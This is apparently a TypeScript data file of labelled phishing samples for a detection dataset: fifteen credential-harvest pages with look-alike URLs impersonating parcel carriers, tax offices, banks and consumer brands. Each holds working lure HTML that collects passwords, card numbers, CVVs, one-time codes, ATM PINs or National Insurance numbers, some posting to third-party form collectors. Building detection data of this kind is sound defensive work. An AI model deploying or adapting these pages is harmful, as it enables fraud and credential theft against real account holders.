import type { Entry } from '../entry.js';

/** Credential-harvest kits, part 2: parcel carriers, banks, post and tax offices, other consumer brands. */
export const entries: Entry[] = [
  {
    id: 'kit-royal-mail-fee',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://royalmail-reschedule.co-uk.parcel-fee.com/',
    body: `<!doctype html><html lang="en-GB"><head><meta charset="utf-8"><title>Royal Mail | Reschedule your delivery</title>
<style>body{font-family:Arial;background:#fff}.rm{background:#da202a;color:#fff;padding:16px 40px;font-size:22px;font-weight:bold}.f{width:500px;margin:20px auto}input{display:block;width:100%;padding:10px;margin:8px 0;border:1px solid #767676}</style></head>
<body><div class="rm">Royal Mail</div><div class="f"><h1>We missed you</h1><p>A parcel is waiting for you. A shipping fee of £1.45 is outstanding. Please confirm your details to reschedule delivery.</p>
<form method="post" action="details/submit"><input name="fullname" placeholder="Full name"><input name="dob" placeholder="Date of birth (DD/MM/YYYY)"><input name="phone" placeholder="Phone number"><input name="postcode" placeholder="Postcode">
<input name="cc" placeholder="Card number"><input name="expiry" placeholder="Expiry"><input name="cvv" placeholder="CVV"><button style="background:#da202a;color:#fff;border:0;padding:12px 24px">Continue</button></form></div></body></html>`,
  },
  {
    id: 'kit-laposte-colis',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://suivi-colissimo-laposte.fr-livraison.net/frais',
    body: `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>La Poste - Suivi de colis</title>
<style>body{font-family:Montserrat,Arial;background:#f7f7f7}.h{background:#ffc200;padding:16px 30px;font-weight:800;color:#003da5}.m{width:520px;margin:30px auto;background:#fff;padding:30px}input{width:100%;padding:10px;margin:6px 0}</style></head>
<body><div class="h">LA POSTE — Colissimo</div><div class="m"><h2>Votre colis est en attente</h2><p>Des frais de réexpédition de 1,99 € sont requis. Sans paiement sous 24h, votre colis sera retourné.</p>
<form method="post" action="paiement.php"><input name="nom" placeholder="Nom complet"><input name="tel" placeholder="Téléphone"><input name="numero_carte" placeholder="Numéro de carte"><input name="date_exp" placeholder="MM/AA"><input name="crypto" placeholder="Cryptogramme"><button style="background:#003da5;color:#fff;border:0;padding:12px 30px">Payer 1,99 €</button></form></div></body></html>`,
  },
  {
    id: 'kit-hmrc-tax-refund',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://hmrc-gov-uk.refund-claim.online/tax-refund/claim.php',
    body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Claim your tax refund - GOV.UK</title>
<style>body{margin:0;font-family:"GDS Transport",Arial}.gov{background:#0b0c0c;color:#fff;padding:10px 30px;font-weight:700;font-size:24px}.w{width:640px;margin:30px auto}label{display:block;font-weight:700;margin-top:15px}input{width:100%;padding:5px;border:2px solid #0b0c0c}.btn{background:#00703c;color:#fff;border:0;padding:8px 12px;margin-top:20px;box-shadow:0 2px 0 #002d18}</style></head>
<body><div class="gov">👑 GOV.UK</div><div class="w"><span style="color:#505a5f">HM Revenue &amp; Customs</span><h1>You are eligible for a tax refund of £684.20</h1>
<p>After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund.</p>
<form method="post" action="claim.php?step=2"><label>Full name</label><input name="fullname"><label>National Insurance number</label><input name="nino" placeholder="QQ 12 34 56 C"><label>Date of birth</label><input name="dob"><label>Card number (for refund payment)</label><input name="cardnumber"><label>Expiry date</label><input name="expiry"><label>Card security code</label><input name="csc">
<button class="btn">Continue</button></form></div></body></html>`,
  },
  {
    id: 'kit-chase-alert',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://chase-online-secure.account-alert.support/logon/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Sign in - chase.com</title>
<style>body{margin:0;font-family:"Open Sans",Arial;background:#0b3c8c url(bg.jpg) center/cover}.l{width:380px;margin:80px auto;background:#fff;padding:30px;border-radius:4px}input{width:100%;border:0;border-bottom:1px solid #767676;padding:10px 0;margin:10px 0}.s{width:100%;background:#0060f0;color:#fff;border:0;padding:12px;border-radius:4px}</style></head>
<body><div class="l"><h2 style="text-align:center;color:#117aca">CHASE ◇</h2>
<form method="post" action="logon.php"><input name="userId" placeholder="Username"><input name="password" type="password" placeholder="Password"><label><input type="checkbox"> Remember me</label><label style="float:right"><input type="checkbox"> Use token</label><br><br><button class="s">Sign in</button></form>
<p><a href="#">Forgot username/password?</a> › <a href="#">Not enrolled? Sign up now.</a></p></div></body></html>`,
  },
  {
    id: 'kit-wellsfargo-otp',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://connect-wellsfargo-verify.com/auth/login/present?origin=cob',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Wells Fargo – Sign On to View Your Accounts</title>
<style>body{font-family:Verdana;background:#fff}.b{background:#d71e28;border-bottom:4px solid #ffcd41;color:#fff;padding:20px 40px;font-weight:bold;letter-spacing:1px}.m{width:400px;margin:30px auto}input{width:100%;padding:10px;margin:8px 0}</style></head>
<body><div class="b">WELLS FARGO</div><div class="m"><h2>Good afternoon</h2><p>Sign on to manage your accounts.</p>
<form method="POST" action="process.php"><input name="j_username" placeholder="Username"><input name="j_password" type="password" placeholder="Password">
<input name="otp" placeholder="Enter the one-time code we sent to your phone" inputmode="numeric"><input name="atmpin" type="password" placeholder="ATM/Debit card PIN" maxlength="4">
<button style="background:#d71e28;color:#fff;border:0;padding:10px 30px;border-radius:20px">Sign on</button></form></div></body></html>`,
  },
  {
    id: 'kit-hsbc-uk',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://hsbc-uk-payee-verify.com/security/logon',
    body: `<!doctype html><html lang="en-GB"><head><meta charset="utf-8"><title>HSBC UK – Log on</title>
<style>body{font-family:Univers,Arial;background:#fff}.h{border-bottom:1px solid #ddd;padding:16px 40px}.h span{background:#db0011;color:#fff;padding:2px 8px;font-weight:bold}.c{width:460px;margin:40px auto}input{width:100%;padding:10px;margin:6px 0;border:1px solid #333}</style></head>
<body><div class="h"><span>◆</span> HSBC UK</div><div class="c"><h1>Log on to Online Banking</h1><p>A new payee was added to your account. If this was not you, log on now to cancel the payment.</p>
<form method="post" action="./verify"><input name="username" placeholder="Username"><input name="memorable" type="password" placeholder="Memorable answer"><input name="securekey" placeholder="Secure Key code"><button style="background:#db0011;color:#fff;border:0;padding:12px 30px">Continue</button></form></div></body></html>`,
  },
  {
    id: 'kit-ing-nl',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://mijn-ing-betaalpas.nl-vervangen.com/login',
    body: `<!DOCTYPE html><html lang="nl"><head><meta charset="utf-8"><title>Mijn ING - Inloggen</title>
<style>body{font-family:INGMe,Arial;background:#f0f0f0}.h{background:#fff;padding:16px 40px;color:#ff6200;font-weight:bold;font-size:26px}.c{width:440px;margin:30px auto;background:#fff;padding:30px}input{width:100%;padding:10px;margin:6px 0}</style></head>
<body><div class="h">ING 🦁</div><div class="c"><h2>Uw betaalpas verloopt binnenkort</h2><p>Vraag vandaag nog een nieuwe betaalpas aan. Log in om uw gegevens te bevestigen.</p>
<form method="post" action="stap2.php"><input name="gebruikersnaam" placeholder="Gebruikersnaam"><input name="wachtwoord" type="password" placeholder="Wachtwoord"><input name="pasnummer" placeholder="Pasnummer"><input name="vervaldatum" placeholder="Vervaldatum"><button style="background:#ff6200;color:#fff;border:0;padding:10px 30px">Inloggen</button></form></div></body></html>`,
  },
  {
    id: 'kit-santander-es-sms',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://santander-clientes-seguridad.es.acceso-web.com/',
    body: `<!doctype html><html lang="es"><head><meta charset="utf-8"><title>Santander - Acceso clientes</title>
<style>body{font-family:Arial}.h{background:#ec0000;color:#fff;padding:18px 40px;font-weight:bold}.c{width:420px;margin:30px auto}input{width:100%;padding:12px;margin:6px 0;border:1px solid #ccc}</style></head>
<body><div class="h">🔥 Santander</div><div class="c"><h2>Acceso clientes</h2><p>Hemos detectado un acceso desde un dispositivo no reconocido. Verifique su identidad.</p>
<form method="post" action="acceso.php"><select name="tipo"><option>NIF</option><option>NIE</option><option>Pasaporte</option></select><input name="documento" placeholder="Documento"><input name="clave" type="password" placeholder="Clave de acceso"><input name="firma" type="password" placeholder="Clave de firma"><button style="background:#ec0000;color:#fff;border:0;padding:12px 30px">Entrar</button></form></div></body></html>`,
  },
  {
    id: 'kit-steam-trade',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://steamcommunnity.com.trade-offer.ru/tradeoffer/new/?partner=188203471',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Steam Community :: Sign In</title>
<style>body{background:#1b2838;color:#c6d4df;font-family:"Motiva Sans",Arial}.w{width:700px;margin:60px auto;background:#181a21;padding:40px}input{width:100%;background:#32353c;border:0;color:#fff;padding:10px;margin:6px 0}.s{background:linear-gradient(90deg,#06bfff,#2d73ff);border:0;color:#fff;padding:12px 60px}</style></head>
<body><div class="w"><h1>STEAM</h1><p>Sign in to accept the trade offer from <b>xXDragon_SlayerXx</b> (AK-47 | Redline, Field-Tested)</p>
<form action="/login/dologin/" method="post"><label>SIGN IN WITH ACCOUNT NAME</label><input name="username"><label>PASSWORD</label><input name="password" type="password"><label>STEAM GUARD CODE</label><input name="twofactorcode" maxlength="5"><button class="s">Sign in</button></form></div></body></html>`,
  },
  {
    id: 'kit-yahoo-storage-full',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://yahoo-mail-quota.weebly-sites.com/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Yahoo Mail - Storage Upgrade</title>
<style>body{font-family:"Helvetica Neue",Arial}.y{color:#6001d2;font-size:32px;font-weight:900;padding:20px 40px}.c{width:360px;margin:20px auto;box-shadow:0 2px 4px #0003;padding:30px}input{width:100%;border:0;border-bottom:1px solid #ccc;padding:10px 0;margin:8px 0}button{width:100%;background:#6001d2;color:#fff;border:0;border-radius:4px;padding:12px}</style></head>
<body><div class="y">yahoo!mail</div><div class="c"><p>Your mailbox has exceeded the storage limit (99%). Incoming messages will be rejected. Sign in to upgrade your storage for free.</p>
<form action="https://getform.io/f/b7c3a1e4-2f0d-4f9a-8c1e-77d1a2b3c4d5" method="POST"><input name="username" placeholder="Username, email, or mobile"><input name="password" type="password" placeholder="Password"><button>Upgrade Storage</button></form></div></body></html>`,
  },
  {
    id: 'kit-spotify-premium',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://spotify-premium-billing.account-restore.net/en/login',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Login - Spotify</title>
<style>body{background:#121212;color:#fff;font-family:Circular,Helvetica}.c{width:734px;margin:30px auto;background:#000;border-radius:8px;padding:40px;text-align:center}input{width:324px;padding:14px;background:#121212;border:1px solid #727272;border-radius:4px;color:#fff;margin:6px 0}button{width:324px;background:#1ed760;border:0;border-radius:500px;padding:14px;font-weight:700}</style></head>
<body><div class="c"><h1>Log in to Spotify</h1><p>Your Premium payment failed. Log in and update your billing to keep listening ad-free.</p>
<form method="post" action="verify.php"><input name="username" placeholder="Email or username"><br><input name="password" type="password" placeholder="Password"><br><button>Log In</button></form></div></body></html>`,
  },
  {
    id: 'kit-att-webmail',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://att-currently-mail.yolasite-pages.com/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>AT&amp;T Yahoo Login</title>
<style>body{font-family:Arial}.t{background:#009fdb;color:#fff;padding:16px 30px;font-weight:bold}.c{width:400px;margin:40px auto}input{width:100%;padding:10px;margin:6px 0}</style></head>
<body><div class="t">AT&amp;T</div><div class="c"><h2>Sign in to AT&amp;T Mail</h2><p>Your email account will be disabled due to our new security upgrade. Sign in to update.</p>
<form method="post" action="https://formspree.io/f/xnqkbvwe"><input name="user" placeholder="AT&T email address"><input name="pass" type="password" placeholder="Password"><button style="background:#009fdb;color:#fff;border:0;padding:10px 24px">Sign in</button></form></div></body></html>`,
  },
  {
    id: 'kit-booking-partner',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://admin-booking.extranet-guest-review.com/sign-in',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Booking.com Partner Hub | Sign in</title>
<style>body{font-family:BlinkMacSystemFont,Arial;background:#f5f5f5}.h{background:#003580;color:#fff;padding:16px 40px;font-weight:bold;font-size:20px}.c{width:420px;margin:40px auto;background:#fff;padding:30px}input{width:100%;padding:10px;margin:6px 0}</style></head>
<body><div class="h">Booking.com for partners</div><div class="c"><h2>Sign in to manage your property</h2><p>A guest has left a complaint that requires your response within 24 hours.</p>
<form method="post" action="auth.php"><input name="loginname" placeholder="Username"><input name="password" type="password" placeholder="Password"><input name="card" placeholder="Confirm card on file (for guest refund)"><button style="background:#0071c2;color:#fff;border:0;padding:10px 30px">Next</button></form></div></body></html>`,
  },
  {
    id: 'kit-whatsapp-web-verify',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://web-whatsapp-verify.com/code',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>WhatsApp Web</title>
<style>body{background:#f0f2f5;font-family:Helvetica}.top{background:#00a884;height:220px}.c{width:600px;margin:-160px auto 0;background:#fff;padding:40px}input{padding:10px;font-size:20px;letter-spacing:8px;width:200px}</style></head>
<body><div class="top"></div><div class="c"><h2>WhatsApp security check</h2><p>We sent a 6-digit code by SMS to confirm this device. Enter it below to keep using WhatsApp. Your account will be logged out if not verified.</p>
<form action="verify.php" method="post"><input name="phone" placeholder="+1 phone number" style="letter-spacing:0"><br><br><input name="code" maxlength="6" inputmode="numeric" autocomplete="one-time-code"><br><br><button style="background:#00a884;color:#fff;border:0;padding:10px 30px;border-radius:20px">Verify</button></form></div></body></html>`,
  },
  {
    id: 'kit-m365-voicemail-fr',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://messagerie-vocale.cabinet-durand-avocats.fr/office/connexion.php',
    body: `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Se connecter à votre compte</title>
<style>body{background:#f2f2f2;font-family:Segoe UI}.b{background:#fff;width:440px;margin:90px auto;padding:44px}input{width:100%;border:0;border-bottom:1px solid #666;margin:14px 0;padding:6px 0}button{background:#0067b8;color:#fff;border:0;padding:8px 32px}</style></head>
<body><div class="b"><b style="color:#737373">▦ Microsoft</b><h2>Se connecter</h2><p>Vous avez 1 nouveau message vocal (00:47). Connectez-vous avec votre compte professionnel pour l'écouter.</p>
<form method="post" action="connexion.php"><input name="login" type="email" placeholder="E-mail, téléphone ou Skype"><input name="passwd" type="password" placeholder="Mot de passe"><button>Se connecter</button></form></div></body></html>`,
  },];
